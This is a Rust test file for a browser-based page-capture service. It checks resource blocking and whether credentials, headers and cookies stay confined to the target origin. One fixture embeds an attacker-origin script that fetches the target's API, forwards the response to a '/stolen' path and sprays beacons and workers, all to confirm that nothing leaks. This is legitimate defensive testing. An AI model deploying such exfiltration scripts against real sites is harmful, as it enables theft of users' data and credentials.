//! Options about what is sent and what is loaded.

use grabd_domain::capture::{CaptureRequest, OptionValue};

use crate::rig::{Rig, request};
use crate::site::{Reply, Site, answer, html, svg};

/// Sets options by their names and JSON values.
fn with(url: &str, options: &[(&str, &str)]) -> CaptureRequest {
    let mut asked = request(url);
    for (name, json) in options {
        let value: OptionValue = serde_json::from_str(json).unwrap();
        assert!(asked.set(name, value), "{name}: {json}");
    }
    asked
}

/// A page with a request of every type to the site.
const EVERYTHING: &str = "<!doctype html><link rel=stylesheet href=/style><style>
    @font-face { font-family: f; src: url(/font) } p { font-family: f }</style>
    <body style='margin:0'><p>text</p><img src=/image width=100 height=100><video src=/media></video>
    <iframe src=/frame></iframe><script src=/script></script><script>
    fetch('/xhr').catch(() => {}); new WebSocket('ws://' + location.host + '/socket')</script>";

fn everything() -> Vec<(&'static str, Reply)> {
    vec![
        ("/", html(EVERYTHING)),
        ("/style", answer("200 OK", "Content-Type: text/css", "")),
        ("/font", answer("200 OK", "Content-Type: font/woff2", "none")),
        ("/image", svg("lime")),
        ("/media", answer("200 OK", "Content-Type: video/mp4", "none")),
        ("/frame", html("<p>frame")),
        ("/script", answer("200 OK", "Content-Type: text/javascript", "")),
        ("/xhr", answer("200 OK", "Content-Type: text/plain", "")),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn blocked_types_are_not_requested() {
    let paths = [
        ("image", "/image"),
        ("media", "/media"),
        ("font", "/font"),
        ("stylesheet", "/style"),
        ("script", "/script"),
        ("xhr", "/xhr"),
        ("frame", "/frame"),
        ("websocket", "/socket"),
    ];
    let rig = Rig::start().await;
    for (name, blocked) in paths {
        let site = Site::start(2, everything()).await;
        let image = rig.capture(with(&site.url("/"), &[("block_types", &format!("[\"{name}\"]"))])).await;
        let requested: Vec<&str> = paths.iter().map(|(_, path)| *path).filter(|path| site.hits(path) > 0).collect();
        let expected: Vec<&str> = paths.iter().map(|(_, path)| *path).filter(|path| *path != blocked).collect();
        assert_eq!(requested, expected, "{name}");
        assert_eq!(image.metadata.blocked_requests, 0, "only refused addresses are counted");
    }
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn blocked_requests_neither_delay_the_image_nor_count_as_missing() {
    let site = Site::start(2, everything().into_iter().chain([("/never", Reply::Silence)])).await;
    let page = Site::start(2, [("/", html("<body style='margin:0;background:lime'><img src={query}>"))]).await;
    let rig = Rig::start().await;
    let warnings = async |asked| rig.capture(asked).await.metadata.warnings;
    // Without the option, the font and the silent image would be warned about.
    let all = r#"["image", "media", "font", "stylesheet", "script", "xhr", "frame", "websocket"]"#;
    assert_eq!(warnings(with(&site.url("/"), &[("block_types", all)])).await, []);
    let url = page.url(&format!("/?{}", site.url("/never")));
    let blocked = rig.capture(with(&url, &[("block_urls", &format!("[\"{}*\"]", site.url("/ne")))])).await;
    assert_eq!((blocked.metadata.warnings, site.hits("/never")), (Vec::new(), 0));
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn blocked_urls_are_not_requested_even_after_redirects() {
    let page = "<!doctype html><img src='/a/one'><img src='/b/two?x=1'><img src='/to?/a/three'>";
    let site = Site::start(2, [("/a/", html(page)), ("/a/one", svg("red")), ("/b/two", svg("red"))]).await;
    let rig = Rig::start().await;
    rig.capture(with(&site.url("/a/"), &[("block_urls", &format!("[\"{}*\", \"*two?x=1\"]", site.url("/a/")))])).await;
    let hits = ["/a/", "/a/one", "/b/two", "/to", "/a/three"].map(|path| site.hits(path));
    assert_eq!(hits, [1, 0, 0, 1, 0], "the document itself is loaded");
    rig.chromium.shutdown().await;
}

const SECRETS: [(&str, &str); 2] = [
    ("headers", r#"{"X-Token": "hidden-1", "Accept-Language": "de"}"#),
    ("basic_auth", r#"{"username": "me", "password": "hidden-2"}"#),
];

fn has_secrets(head: &str) -> bool {
    // The base64 of `me:hidden-2`, in lower case.
    head.contains("x-token: hidden-1") && head.contains("authorization: basic bwu6aglkzgvulti=")
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_are_sent_to_the_origin_of_the_target_only() {
    let other = Site::start(3, [("/image", svg("lime")), ("/page", html("<p>page</p><img src={query}>"))]).await;
    let page = format!(
        "<!doctype html><img src=/own><img src={other}/image><img src='/to?{other}/redirected'>
         <iframe src='{other}/page?{{site}}/framed'></iframe><iframe src=/frame></iframe>
         <script>fetch('{other}/fetched', {{ mode: 'no-cors' }})</script>",
        other = other.url("")
    );
    let frame = html("<p>frame</p><img src=/inner>");
    let site = Site::start(2, [("/", html(page)), ("/own", svg("lime")), ("/frame", frame)]).await;
    let rig = Rig::with(&[2, 3], |_| {}).await;
    rig.capture(with(&site.url("/to?/"), &SECRETS)).await;
    for path in ["/to", "/", "/own", "/frame", "/inner"] {
        assert!(site.heads(path).iter().all(|head| has_secrets(head)), "{path}: {:?}", site.heads(path));
        assert!(!site.heads(path).is_empty(), "{path}");
    }
    assert!(site.heads("/")[0].contains("accept-language: de\r\n"), "{:?}", site.heads("/"));
    for path in ["/image", "/redirected", "/page", "/fetched"] {
        assert_eq!(other.heads(path).len(), 1, "{path}");
    }
    assert!(
        !other.all_heads().contains("hidden-1") && !other.all_heads().contains("authorization"),
        "{}",
        other.all_heads()
    );
    // A frame of another origin cannot act in the caller's name.
    assert!(site.heads("/framed").len() == 1 && !has_secrets(&site.heads("/framed")[0]), "{:?}", site.heads("/framed"));
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_do_not_follow_a_redirect_to_another_origin() {
    let site = Site::start(2, [("/own", svg("lime"))]).await;
    let page = format!("<!doctype html><p>other</p><img src={}>", site.url("/own"));
    let other = Site::start(3, [("/landing", html(page))]).await;
    let rig = Rig::with(&[2, 3], |_| {}).await;
    let cookies = ("cookies", r#"[{"name": "sid", "value": "hidden-3"}]"#);
    let url = site.url(&format!("/to?{}", other.url("/landing")));
    rig.capture(with(&url, &[SECRETS[0], SECRETS[1], cookies])).await;
    assert!(has_secrets(&site.heads("/to")[0]) && site.heads("/to")[0].contains("cookie: sid=hidden-3"));
    assert_eq!(other.heads("/landing").len(), 1);
    assert!(
        !other.all_heads().contains("hidden") && !other.all_heads().contains("authorization"),
        "{}",
        other.all_heads()
    );
    // A page of another origin cannot act in the caller's name.
    assert!(site.heads("/own").iter().all(|head| !has_secrets(head)), "{:?}", site.heads("/own"));
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_not_in_the_context_of_another_grab() {
    let site = Site::start(2, [("/", html("<p>page</p><script>localStorage.a = document.cookie</script>"))]).await;
    let rig = Rig::start().await;
    let cookies = r#"[{"name": "sid", "value": "hidden-3", "http_only": true},
        {"name": "seen", "value": "1", "path": "/", "same_site": "Lax", "expires": 4102444800}]"#;
    rig.capture(with(&site.url("/"), &[SECRETS[0], SECRETS[1], ("cookies", cookies)])).await;
    rig.grab(&site.url("/")).await;
    let heads = site.heads("/");
    assert!(has_secrets(&heads[0]) && heads[0].contains("sid=hidden-3") && heads[0].contains("seen=1"), "{heads:?}");
    assert!(!heads[1].contains("hidden") && !heads[1].contains("cookie") && !heads[1].contains("authorization"));
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn cookies_that_the_browser_refuses_fail_the_grab_without_their_value() {
    let site = Site::start(2, [("/", html("<p>page"))]).await;
    let rig = Rig::start().await;
    // Names with this prefix need a secure origin and no domain.
    let cookies = r#"[{"name": "__Host-sid", "value": "hidden-3", "path": "/below"}]"#;
    let (failure, _) = rig.fails(with(&site.url("/"), &[("cookies", cookies)])).await;
    assert_eq!(failure.message, "The browser does not accept one of the `cookies`.");
    assert_eq!(site.all_hits(), 0);
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn page_reads_the_position_in_its_own_context_only() {
    let page = "<!doctype html><body style='margin:0'><script>
        const show = (colour) => { document.body.style.background = colour; document.body.innerHTML = '<p id=done>done' };
        navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude, accuracy } }) =>
            show(latitude === 48.2082 && longitude === -16.3738 && accuracy === 10 ? 'lime' : 'yellow'),
            () => show('blue'))</script>";
    let site = Site::start(2, [("/", html(page))]).await;
    let rig = Rig::start().await;
    let position = ("geolocation", r#"{"latitude": 48.2082, "longitude": -16.3738}"#);
    let done = ("wait_for", "\"#done\"");
    assert_eq!(rig.capture(with(&site.url("/"), &[position, done])).await.colour(600, 400), "lime");
    assert_eq!(rig.capture(with(&site.url("/"), &[done])).await.colour(600, 400), "blue", "without the option");
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn browser_names_itself_without_headless_and_with_the_token() {
    let page = "<!doctype html><body style='margin:0;background:red'><script>
        const hints = navigator.userAgentData.brands.map(({ brand }) => brand);
        document.body.style.background = !/Headless/.test(navigator.userAgent + hints) && hints.includes('Chromium') &&
            navigator.userAgent.endsWith(' Shots/1.0 (+https://example.com/bot)') &&
            navigator.userAgentData.mobile === false && navigator.webdriver ? 'lime' : 'red'</script>";
    let site = Site::start(2, [("/", html(page))]).await;
    let rig = Rig::with(&[2], |o| o.user_agent_token = "Shots/1.0 (+https://example.com/bot)".to_owned()).await;
    assert_eq!(rig.grab(&site.url("/")).await.colour(600, 400), "lime");
    rig.capture(with(&site.url("/"), &[("device", "\"phone\""), ("locale", "\"de\"")])).await;
    let heads = site.heads("/");
    let [desktop, phone] = &heads[..] else { panic!("two requests: {heads:?}") };
    assert!(!desktop.contains("headless") && !phone.contains("headless"), "{desktop}{phone}");
    assert!(desktop.contains("sec-ch-ua-platform: \"linux\"") && desktop.contains("shots/1.0"), "{desktop}");
    assert!(phone.contains("sec-ch-ua-platform: \"android\"") && phone.contains("sec-ch-ua-mobile: ?1"), "{phone}");
    assert!(phone.contains("accept-language: de"), "{phone}");
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn page_of_another_origin_gets_no_headers_while_a_navigation_to_the_target_is_pending() {
    // The page from another origin goes back to the target, which is slow to answer, and meanwhile asks the target for
    // everything it can, in the main frame, a frame, workers and when it is left.
    let asks = "<!doctype html><p>other</p><script>
        const own = '{query}'; let count = 0;
        const ask = () => {
            fetch(`${own}/api?${count++}`).then((answer) => answer.text()).then((text) => fetch('/stolen?' + text)).catch(() => {});
            fetch(own + '/api', { referrerPolicy: 'no-referrer', mode: 'no-cors' }).catch(() => {});
            const picture = new Image(); picture.src = `${own}/api?i${count}`;
            navigator.sendBeacon(own + '/api?beacon');
            document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${own}/api?p${count}` }));
            if (count == 2) document.body.append(Object.assign(document.createElement('iframe'), { src: own + '/api?frame' }));
        };
        const loop = `const ask = () => fetch('${own}/api?worker').catch(() => {}); ask(); setInterval(ask, 20)`;
        new Worker(URL.createObjectURL(new Blob([loop])));
        addEventListener('pagehide', () => { navigator.sendBeacon(own + '/api?left'); fetch(own + '/api?kept', { keepalive: true }) });
        location.href = own + '/slow'; ask(); setInterval(ask, 20);</script>";
    let open = "Content-Type: text/plain\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *";
    let other = Site::start(3, [("/asks", html(asks)), ("/stolen", answer("200 OK", "", ""))]).await;
    let slow = html("<!doctype html><body style='background:lime'><p>own</p><img src=/own>").once_requested("/api", 12);
    let site =
        Site::start(2, [("/slow", slow), ("/api", answer("200 OK", open, "secret")), ("/own", svg("lime"))]).await;
    let rig = Rig::with(&[2, 3], |_| {}).await;
    let origin = site.url("");
    let image = rig.capture(with(&site.url(&format!("/to?{}", other.url(&format!("/asks?{origin}")))), &SECRETS)).await;
    assert_eq!(image.colour(600, 600), "lime");
    let asked = site.heads("/api");
    assert!(asked.len() > 10, "{asked:?}");
    let given: Vec<_> =
        asked.iter().filter(|head| head.contains("hidden-1") || head.contains("authorization")).collect();
    assert!(given.is_empty(), "{given:?}");
    // The document that replaced the page acts for the caller again.
    assert!(has_secrets(&site.heads("/slow")[0]) && has_secrets(&site.heads("/own")[0]), "{}", site.all_heads());
    assert!(!other.all_heads().contains("hidden-1"));
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn form_of_a_page_of_another_origin_is_sent_without_headers() {
    let form = "<form method=post action='{query}'></form><script>document.forms[0].submit()</script>";
    let other = Site::start(3, [("/form", html(form)), ("/link", html("<script>location = '{query}'</script>"))]).await;
    let site = Site::start(2, [("/action", html("<p>done"))]).await;
    let rig = Rig::with(&[2, 3], |_| {}).await;
    for (path, is_sent) in [("/form", false), ("/link", true)] {
        let back = other.url(&format!("{path}?{}", site.url("/action")));
        rig.capture(with(&site.url(&format!("/to?{back}")), &SECRETS)).await;
        let head = site.heads("/action").pop().unwrap();
        assert_eq!(has_secrets(&head), is_sent, "{path}: {head}");
    }
    rig.chromium.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn documents_in_a_sandbox_get_no_headers_and_workers_of_the_target_do() {
    let page = "<!doctype html><iframe sandbox='allow-scripts' src='/boxed'></iframe>
        <iframe sandbox='allow-scripts' srcdoc=\"<img src='{site}/in-srcdoc'>\"></iframe>
        <iframe srcdoc=\"<img src='{site}/in-own-srcdoc'>\"></iframe>
        <script>new Worker('/worker.js').onmessage = () => document.body.append('done')</script>";
    let worker = "fetch('/from-worker').then(() => postMessage(1))";
    let site = Site::start(
        2,
        [
            ("/", html(page)),
            ("/boxed", html("<img src=/in-box>")),
            ("/worker.js", answer("200 OK", "Content-Type: text/javascript", worker)),
            ("/in-box", svg("lime")),
            ("/in-srcdoc", svg("lime")),
            ("/in-own-srcdoc", svg("lime")),
            ("/from-worker", answer("200 OK", "Content-Type: text/plain", "x")),
        ],
    )
    .await;
    let rig = Rig::start().await;
    rig.capture(with(&site.url("/"), &SECRETS)).await;
    for (path, is_sent) in [
        ("/", true),
        ("/worker.js", true),
        ("/from-worker", true),
        ("/in-own-srcdoc", true),
        ("/in-box", false),
        ("/in-srcdoc", false),
    ] {
        let heads = site.heads(path);
        assert!(heads.len() == 1 && has_secrets(&heads[0]) == is_sent, "{path}: {heads:?}");
    }
    rig.chromium.shutdown().await;
}
